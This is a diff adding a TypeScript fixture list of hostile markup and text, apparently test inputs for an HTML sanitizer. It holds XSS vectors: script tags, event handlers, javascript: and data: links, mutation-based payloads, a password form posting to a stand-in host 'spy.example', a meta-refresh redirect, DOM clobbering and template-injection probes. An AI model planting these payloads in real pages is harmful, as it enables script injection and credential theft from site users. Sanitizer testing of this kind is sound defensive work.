@@ -1,0 +1,27 @@
+/** Markup that would run, load or mislead where it is not cleaned. */
+export const hostileMarkup: readonly string[] = [
+  '<p>harmless</p>',
+  '<script>window.hit = 1</script>',
+  '<img src=x onerror="window.hit = 1">',
+  '<img src="https://spy.example/pixel.png" alt="a pixel">',
+  '<svg onload="window.hit = 1"><style><img src=x onerror="window.hit = 1"></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+  '<a href="javascript:window.hit=1">script</a>',
+  '<a href="java\nscript:window.hit=1">broken script</a>',
+  '<a href="data:text/html,<script>window.hit=1</script>">data</a>',
+  '<a href="//spy.example/">elsewhere</a>',
+  '<a href="https://northwind.example" target="_top" onclick="window.hit = 1">link</a>',
+  '<form action="https://spy.example"><input name="password"><button>Sign in</button></form>',
+  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+  '<base href="https://spy.example/"><meta http-equiv="refresh" content="0;url=https://spy.example">',
+  '<div style="position:fixed;inset:0" id="root" name="location" class="fixed">over everything</div>',
+  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
+];
+
+/** Texts that are harmless as text, and run where one is taken for markup or for an address. */
+export const hostileTexts: readonly string[] = [
+  '"><script>window.hit=1</script><img src=x onerror="window.hit=1">',
+  "'><svg onload=window.hit=1>",
+  'javascript:window.hit=1//https://x',
+  '{{7*7}}${7*7}<b>bold</b>',
+];
